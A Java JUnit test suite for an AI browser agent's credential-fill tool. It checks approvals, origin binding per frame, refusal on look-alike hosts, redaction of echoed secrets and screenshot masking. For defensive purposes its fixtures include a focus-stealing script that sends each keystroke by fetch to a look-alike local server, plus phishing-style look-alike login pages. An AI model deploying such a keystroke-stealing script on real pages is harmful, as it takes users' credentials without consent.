package dev.periscope.browser.playwright;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.periscope.api.browser.Transition;
import dev.periscope.api.host.ApprovalDecision;
import dev.periscope.api.host.ApprovalRequest;
import dev.periscope.api.host.CredentialService;
import dev.periscope.api.host.OriginPattern;
import dev.periscope.api.host.Secret;
import dev.periscope.api.tool.Content;
import dev.periscope.api.tool.ToolResult;
import dev.periscope.browser.runtime.CredentialChannel;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.net.InetSocketAddress;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * browser_fill_credential on real Chromium: approval, origin binding by the frame that holds the
 * field (pages on 127.0.0.1 and on the look-alike host 127.0.0.2), echo redaction, screenshot masks
 * and a fill that times out.
 */
class CredentialFillTest {
  /**
   * Random per run, with characters a URL encodes differently by encoder, so every echo form is
   * exercised.
   */
  static final String SECRET =
      "Cn4ry-" + UUID.randomUUID().toString().substring(0, 12) + " p@ss/w!rd+é";

  static final String LOGIN =
      """
      <!doctype html><html><head><title>Login</title>
      <style>input { position: absolute; left: 20px; width: 400px; height: 32px; font-size: 20px; }</style></head>
      <body><form method="post" action="/session">
        <label for="user">Username</label><input id="user" name="user" style="top: 80px">
        <label for="pw">Password</label><input id="pw" name="pw" type="password" style="top: 140px">
        <label for="locked">Locked field</label><input id="locked" disabled style="top: 200px">
        <button type="submit" style="position: absolute; top: 260px">Sign in</button>
      </form>
      <button id="len" style="position: absolute; top: 300px"
        onclick="document.getElementById('out').textContent = 'lengths ' + user.value.length + ' ' + pw.value.length">Show lengths</button>
      <p id="out" style="position: absolute; top: 330px"></p></body></html>""";

  /**
   * Echoes whatever is typed into its field: into text, the title, the URL and an attribute that
   * names a button.
   */
  static final String ECHO =
      """
      <!doctype html><html><head><title>Echo</title></head><body>
      <label for="token">Token</label><input id="token">
      <button id="copy">Copy</button>
      <ul><li>one</li><li>two</li><li id="echoed">three</li></ul>
      <p id="said"></p>
      <script>
        token.addEventListener('input', () => {
          const v = token.value;
          said.textContent = 'You typed ' + v + ' just now';
          echoed.textContent = 'item ' + v;
          document.title = 'Echo of ' + v;
          history.replaceState(null, '', '/echo?q=' + encodeURIComponent(v));
          copy.setAttribute('aria-label', 'Copy ' + v);
          copy.setAttribute('role', 'button ' + v);
        });
      </script></body></html>""";

  /** Saves a file named after what its field holds (the name is the page's, no request's). */
  static final String EXPORT =
      """
      <!doctype html><html><head><title>Export</title></head><body>
      <label for="token">Token</label><input id="token">
      <button onclick="const a = document.createElement('a');
        a.href = '/export/file';
        a.download = encodeURIComponent(token.value) + '.txt';
        document.body.append(a); a.click();">Export</button>
      </body></html>""";

  /** A frame that keeps taking focus and reports every keystroke it receives to its own server. */
  static final String STEALER =
      """
      <!doctype html><html><body><input id="catch" aria-label="Newsletter">
      <script>
        setInterval(() => document.getElementById('catch').focus(), 1);
        document.getElementById('catch').addEventListener('input',
          e => fetch('/typed?v=' + encodeURIComponent(e.target.value)));
      </script></body></html>""";

  static LocalBrowser browser;
  static HttpServer lookAlike;
  static final List<String> stolen = new CopyOnWriteArrayList<>();
  static HttpServer otherPort;
  static final List<String> posted = new CopyOnWriteArrayList<>();
  static final List<ApprovalRequest> asked = new CopyOnWriteArrayList<>();
  static volatile ApprovalDecision answer = ApprovalDecision.ALLOW_ONCE;
  static volatile List<OriginPattern> bankOrigins = List.of();

  @BeforeAll
  static void start() throws Exception {
    CredentialService service =
        new CredentialService() {
          @Override
          public Set<String> references() {
            return Set.of("bank", "anywhere");
          }

          @Override
          public Optional<Secret> resolve(String reference) {
            return references().contains(reference)
                ? Optional.of(Secret.of(SECRET))
                : Optional.empty();
          }

          @Override
          public List<OriginPattern> origins(String reference) {
            return reference.equals("bank") ? bankOrigins : List.of();
          }
        };
    CredentialChannel channel =
        new CredentialChannel(
            Optional.of(service),
            Map.of("fromenv", "PERISCOPE_UNSET_VAR"),
            name -> null,
            true,
            Optional.of(
                (request, cancellation) -> {
                  asked.add(request);
                  return answer;
                }),
            false);
    Map<String, String> pages =
        new HashMap<>(
            Map.of(
                "/login",
                LOGIN,
                "/echo",
                ECHO,
                "/inner",
                LOGIN.replace(">Password<", ">Inner password<"),
                "/export",
                EXPORT));
    browser =
        new LocalBrowser(
            pages,
            Map.of(
                "/export/file",
                exchange -> LocalBrowser.respond(exchange, "a,b"),
                "/session",
                exchange -> {
                  posted.add(
                      new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
                  LocalBrowser.respond(
                      exchange,
                      "<html><head><title>Welcome</title></head><body>Signed in</body></html>");
                }),
            channel,
            LocalBrowser.withLoopback(Map.of("actionTimeoutMs", 1500)));
    lookAlike = server("127.0.0.2", 0, LOGIN.replace(">Password<", ">Evil password<"));
    lookAlike.createContext("/stealer", exchange -> LocalBrowser.respond(exchange, STEALER));
    lookAlike.createContext(
        "/typed",
        exchange -> {
          stolen.add(exchange.getRequestURI().getRawQuery());
          LocalBrowser.respond(exchange, "");
        });
    otherPort = server("127.0.0.1", 0, LOGIN);
    // The page the credential is bound to frames a look-alike's login form and one of its own.
    pages.put(
        "/framed",
        "<!doctype html><html><body><h1>Bank</h1>"
            + "<iframe src=\"http://127.0.0.2:"
            + lookAlike.getAddress().getPort()
            + "/login\" width=600 height=400></iframe>"
            + "<iframe src=\"/inner\" width=600 height=400></iframe></body></html>");
    pages.put(
        "/with-stealer",
        LOGIN.replace(
            "<p id=\"out\"",
            "<iframe src=\"http://127.0.0.2:"
                + lookAlike.getAddress().getPort()
                + "/stealer\" style=\"position: absolute; top: 400px\"></iframe><p id=\"out\""));
    // A stranger's page that frames the bank's own login form.
    lookAlike.createContext(
        "/framing",
        exchange ->
            LocalBrowser.respond(
                exchange,
                "<!doctype html><html><body>"
                    + "<iframe src=\""
                    + browser.url("/inner")
                    + "\" width=600 height=400></iframe></body></html>"));
    bankOrigins = List.of(OriginPattern.parse("http://127.0.0.1:" + browser.port()));
  }

  static HttpServer server(String address, int port, String html) throws Exception {
    HttpServer s = HttpServer.create(new InetSocketAddress(address, port), 0);
    s.createContext("/", exchange -> LocalBrowser.respond(exchange, html));
    s.start();
    return s;
  }

  @AfterAll
  static void stop() {
    browser.close();
    lookAlike.stop(0);
    otherPort.stop(0);
  }

  @BeforeEach
  void reset() {
    asked.clear();
    posted.clear();
    answer = ApprovalDecision.ALLOW_ONCE;
  }

  static Map<String, Object> fill(ToolResult observed, String field, String ref) {
    Map<String, Object> args = new HashMap<>(LocalBrowser.target(observed, field));
    args.put("credential_ref", ref);
    return args;
  }

  @Test
  void anApprovedFillTypesTheSecretAndShowsOnlyItsLength() {
    ToolResult page =
        browser.call("approved", "browser_open", Map.of("url", browser.url("/login")));
    ToolResult filled =
        browser.call("approved", "browser_fill_credential", fill(page, "Password", "bank"));
    assertFalse(filled.isError(), filled.text());
    assertTrue(
        filled
            .text()
            .startsWith("Filled " + SECRET.length() + " characters of credential \"bank\""),
        filled.text());
    assertEquals(1, asked.size());
    ApprovalRequest request = asked.get(0);
    assertEquals(
        List.of(
            "browser_fill_credential", "bank", "http://127.0.0.1:" + browser.port(), "Password"),
        List.of(
            request.toolName(), request.credentialRef(), request.origin(), request.fieldName()));

    ToolResult signedIn =
        browser.call("approved", "browser_click", LocalBrowser.target(filled, "Sign in"));
    assertTrue(signedIn.text().contains("Signed in"), signedIn.text());
    assertEquals(1, posted.size());
    assertTrue(
        URLDecoder.decode(posted.get(0), StandardCharsets.UTF_8).contains("pw=" + SECRET),
        "the form sent it");

    List<Transition> mine =
        browser.runtime().transitions().stream()
            .filter(t -> "fill_credential".equals(t.action().get("kind")))
            .toList();
    assertFalse(mine.isEmpty());
    for (Transition t : mine) {
      assertTrue(
          Set.of("bank", "anywhere").contains(t.action().get("credential_ref")),
          t.action().toString());
      assertFalse(
          String.valueOf(t).contains(SECRET.substring(0, 10)),
          "the transition holds no part of the value");
    }
  }

  @Test
  void aDeniedFillLeavesTheFieldEmpty() {
    answer = ApprovalDecision.DENY;
    ToolResult page = browser.call("denied", "browser_open", Map.of("url", browser.url("/login")));
    ToolResult denied =
        browser.call("denied", "browser_fill_credential", fill(page, "Password", "anywhere"));
    assertTrue(denied.isError());
    assertTrue(denied.text().contains("code=BROWSER_CREDENTIAL_DENIED"), denied.text());
    assertTrue(denied.text().contains("was not approved"), denied.text());
    ToolResult shown =
        browser.call(
            "denied",
            "browser_click",
            LocalBrowser.target(
                browser.call("denied", "browser_observe", Map.of()), "Show lengths"));
    assertTrue(shown.text().contains("lengths 0 0"), shown.text());
  }

  @Test
  void unknownAndUnsetReferencesNameWhatIsConfigured() {
    ToolResult page = browser.call("unknown", "browser_open", Map.of("url", browser.url("/login")));
    ToolResult unknown =
        browser.call("unknown", "browser_fill_credential", fill(page, "Password", "nope"));
    assertTrue(unknown.text().contains("code=BROWSER_CREDENTIAL_UNAVAILABLE"), unknown.text());
    assertTrue(unknown.text().contains("configured: anywhere, bank, fromenv"), unknown.text());
    ToolResult unset =
        browser.call(
            "unknown",
            "browser_fill_credential",
            fill(browser.call("unknown", "browser_observe", Map.of()), "Password", "fromenv"));
    assertTrue(unset.text().contains("code=BROWSER_CREDENTIAL_UNAVAILABLE"), unset.text());
    assertTrue(unset.text().contains("PERISCOPE_UNSET_VAR is unset or empty"), unset.text());
    assertTrue(asked.isEmpty(), "nobody is asked to approve what cannot be filled");
  }

  @Test
  void aBoundCredentialIsRefusedOnALookAlikeHostAndAnotherPortBeforeApproval() {
    for (HttpServer other : List.of(lookAlike, otherPort)) {
      String host =
          other.getAddress().getAddress().getHostAddress() + ":" + other.getAddress().getPort();
      ToolResult page =
          browser.call("origins", "browser_open", Map.of("url", "http://" + host + "/login"));
      String field = other == lookAlike ? "Evil password" : "Password";
      ToolResult refused =
          browser.call("origins", "browser_fill_credential", fill(page, field, "bank"));
      assertTrue(refused.text().contains("code=BROWSER_CREDENTIAL_DENIED"), refused.text());
      assertTrue(refused.text().contains("is on http://" + host), refused.text());
    }
    assertTrue(asked.isEmpty(), "a refused origin never reaches approval");
  }

  @Test
  void theOriginIsTheFrameHoldingTheFieldNotTheTopPage() {
    ToolResult page = browser.call("frames", "browser_open", Map.of("url", browser.url("/framed")));
    assertEquals(
        "frame http://127.0.0.2:" + lookAlike.getAddress().getPort(),
        LocalBrowser.element(page, "Evil password").get("section"),
        page.text());
    assertTrue(page.text().contains("in frame http://127.0.0.2:"), page.text());
    ToolResult refused =
        browser.call("frames", "browser_fill_credential", fill(page, "Evil password", "bank"));
    assertTrue(refused.text().contains("code=BROWSER_CREDENTIAL_DENIED"), refused.text());
    assertTrue(
        refused.text().contains("is on http://127.0.0.2:" + lookAlike.getAddress().getPort()),
        refused.text());
    assertTrue(asked.isEmpty());

    ToolResult ownFrame =
        browser.call(
            "frames",
            "browser_fill_credential",
            fill(browser.call("frames", "browser_observe", Map.of()), "Inner password", "bank"));
    assertFalse(ownFrame.isError(), ownFrame.text());
    assertEquals("http://127.0.0.1:" + browser.port(), asked.get(0).origin());
  }

  @Test
  void theBanksOwnFormFramedByAStrangerIsRefused() {
    ToolResult page =
        browser.call(
            "framing",
            "browser_open",
            Map.of("url", "http://127.0.0.2:" + lookAlike.getAddress().getPort() + "/framing"));
    ToolResult refused =
        browser.call("framing", "browser_fill_credential", fill(page, "Inner password", "bank"));
    assertTrue(refused.text().contains("code=BROWSER_CREDENTIAL_DENIED"), refused.text());
    assertTrue(
        refused
            .text()
            .contains(
                "is on http://127.0.0.1:" + browser.port() + " but framed by http://127.0.0.2:"),
        refused.text());
    assertTrue(asked.isEmpty());
  }

  @Test
  void aFrameThatKeepsTakingFocusReceivesNothing() throws Exception {
    ToolResult page =
        browser.call("focus", "browser_open", Map.of("url", browser.url("/with-stealer")));
    for (String field : List.of("Username", "Password")) {
      ToolResult filled =
          browser.call(
              "focus",
              "browser_fill_credential",
              fill(browser.call("focus", "browser_observe", Map.of()), field, "bank"));
      assertFalse(filled.isError(), filled.text());
    }
    ToolResult shown =
        browser.call(
            "focus",
            "browser_click",
            LocalBrowser.target(
                browser.call("focus", "browser_observe", Map.of()), "Show lengths"));
    assertTrue(
        shown.text().contains("lengths " + SECRET.length() + " " + SECRET.length()), shown.text());
    Thread.sleep(300);
    assertEquals(List.of(), stolen, "the focus-taking frame got keystrokes");
    assertTrue(page.text().contains("Newsletter"), "the stealing frame was there: " + page.text());
  }

  @Test
  void anExtractionLimitCannotCutASecretToShowItsStart() {
    ToolResult page = browser.call("cut", "browser_open", Map.of("url", browser.url("/echo")));
    assertFalse(
        browser.call("cut", "browser_fill_credential", fill(page, "Token", "anywhere")).isError());
    for (int extra = 1; extra <= 8; extra++) {
      ToolResult cut =
          browser.call(
              "cut",
              "browser_extract_article",
              Map.of("max_text_chars", "You typed ".length() + extra));
      assertFalse(cut.isError(), cut.text());
      assertFalse(
          (cut.text() + cut.structured())
              .contains("You typed " + SECRET.substring(0, Math.min(extra, 3))),
          cut.text() + cut.structured());
    }
  }

  @Test
  void whatThePageEchoesIsRedactedEverywhereTheModelLooks() {
    ToolResult page = browser.call("echo", "browser_open", Map.of("url", browser.url("/echo")));
    ToolResult filled =
        browser.call("echo", "browser_fill_credential", fill(page, "Token", "anywhere"));
    assertFalse(filled.isError(), filled.text());
    ToolResult observed = browser.call("echo", "browser_observe", Map.of("mode", "document"));
    ToolResult interactive = browser.call("echo", "browser_observe", Map.of("mode", "interactive"));
    ToolResult listed = browser.call("echo", "browser_extract_article", Map.of());
    for (ToolResult r : List.of(filled, observed, interactive, listed)) {
      String all = r.text() + r.structured();
      assertNoCopy(all);
    }
    assertTrue(observed.text().contains("You typed [REDACTED:anywhere] just now"), observed.text());
    assertTrue(observed.text().contains("Echo of [REDACTED:anywhere]"), observed.text());
    assertTrue(
        String.valueOf(observed.structured()).contains("/echo?q=[REDACTED:anywhere]"),
        observed.text());
    assertTrue(interactive.text().contains("Copy [REDACTED:anywhere]"), interactive.text());
    assertTrue(
        String.valueOf(listed.structured()).contains("You typed [REDACTED:anywhere]"),
        listed.text());

    // A failure line that quotes the page's URL is redacted too.
    ToolResult stale =
        browser.call(
            "echo", "browser_click", Map.of("observation_id", "obs-old", "element_ref", "e1"));
    assertTrue(stale.isError());
    assertNoCopy(stale.text());
  }

  @Test
  void aDownloadNamedAfterAFilledSecretIsReportedRedacted() {
    ToolResult page = browser.call("export", "browser_open", Map.of("url", browser.url("/export")));
    ToolResult filled =
        browser.call("export", "browser_fill_credential", fill(page, "Token", "anywhere"));
    assertFalse(filled.isError(), filled.text());
    ToolResult exported =
        browser.call("export", "browser_click", LocalBrowser.target(filled, "Export"));
    assertFalse(exported.isError(), exported.text());
    assertTrue(exported.text().contains("Downloaded \"[REDACTED:anywhere].txt\""), exported.text());
    assertNoCopy(exported.text() + exported.structured());
  }

  @Test
  void aFieldACredentialWasFilledIntoShowsOnlyThatItHoldsSomethingWhateverItsType() {
    ToolResult page = browser.call("state", "browser_open", Map.of("url", browser.url("/login")));
    assertEquals(
        List.of(),
        LocalBrowser.state(page, "Username"),
        "an empty field is not filled: " + page.text());
    ToolResult filled =
        browser.call("state", "browser_fill_credential", fill(page, "Username", "anywhere"));
    assertFalse(filled.isError(), filled.text());
    ToolResult observed = browser.call("state", "browser_observe", Map.of("mode", "interactive"));
    for (ToolResult r : List.of(filled, observed)) {
      Map<String, Object> username = LocalBrowser.element(r, "Username");
      // Not its value redacted: no value is read from it at all (the page's registry marks it).
      assertFalse(username.containsKey("value"), r.text());
      assertEquals("filled", username.get("state"), r.text());
      assertTrue(r.text().contains("input:text — Username (filled)"), r.text());
      assertNoCopy(r.text() + r.structured());
    }
  }

  @Test
  void aFilledFieldIsMaskedInScreenshotsWhateverItsType() throws Exception {
    ToolResult page = browser.call("mask", "browser_open", Map.of("url", browser.url("/login")));
    BufferedImage before = image(browser.call("mask", "browser_screenshot", Map.of()));
    browser.call("mask", "browser_fill_credential", fill(page, "Username", "anywhere"));
    browser.call(
        "mask",
        "browser_fill_credential",
        fill(browser.call("mask", "browser_observe", Map.of()), "Password", "anywhere"));
    for (boolean fullPage : List.of(false, true)) {
      BufferedImage after =
          image(browser.call("mask", "browser_screenshot", Map.of("full_page", fullPage)));
      for (int top : List.of(80, 140)) {
        // Inside the field's box (20..420 x top..top+32): every pixel is the mask.
        for (int x = 24; x < 416; x += 7) {
          for (int y = top + 4; y < top + 28; y += 5) {
            assertEquals(
                CredentialFields.mask().getRGB(), after.getRGB(x, y), "pixel " + x + "," + y);
          }
        }
      }
      assertEquals(
          before.getRGB(600, 20), after.getRGB(600, 20), "the rest of the page is untouched");
    }
    // The same value typed by browser_fill (no credential) into the text field shows in the pixels.
    ToolResult plain =
        browser.call("unmasked", "browser_open", Map.of("url", browser.url("/login")));
    Map<String, Object> args = new HashMap<>(LocalBrowser.target(plain, "Username"));
    args.put("value", SECRET);
    browser.call("unmasked", "browser_fill", args);
    BufferedImage unmasked = image(browser.call("unmasked", "browser_screenshot", Map.of()));
    List<Integer> colours = new ArrayList<>();
    for (int x = 24; x < 416; x++) {
      colours.add(unmasked.getRGB(x, 96));
    }
    assertTrue(
        new java.util.HashSet<>(colours).size() > 2, "typed text shows in an unmasked field");
    assertFalse(Collections.frequency(colours, CredentialFields.mask().getRGB()) == colours.size());
  }

  @Test
  void aFillThatTimesOutSaysSoWithoutTheValue() {
    ToolResult page = browser.call("timeout", "browser_open", Map.of("url", browser.url("/login")));
    ToolResult failed =
        browser.call("timeout", "browser_fill_credential", fill(page, "Locked field", "anywhere"));
    assertTrue(failed.isError());
    assertTrue(failed.text().contains("did not become editable within 1500 ms"), failed.text());
    assertTrue(failed.text().contains("code=BROWSER_ACTION_FAILED"), failed.text());
    assertNoCopy(failed.text());
  }

  @Test
  void playwrightsChannelLogTurnsCredentialFillsOff() {
    assertTrue(CredentialFields.channelLogged("pw:api,pw:channel"));
    assertFalse(CredentialFields.channelLogged("pw:api"));
    assertFalse(CredentialFields.channelLogged(null));
  }

  static void assertNoCopy(String text) {
    for (String part :
        List.of(SECRET, SECRET.substring(0, 10), "Cn4ry-" + SECRET.substring(6, 14))) {
      assertFalse(text.contains(part), () -> "found a copy of the secret in: " + text);
    }
  }

  static BufferedImage image(ToolResult shot) throws Exception {
    assertFalse(shot.isError(), shot.text());
    byte[] png =
        shot.content().stream()
            .filter(c -> c instanceof Content.Image)
            .map(c -> ((Content.Image) c).data())
            .findFirst()
            .orElseThrow();
    return ImageIO.read(new ByteArrayInputStream(png));
  }
}
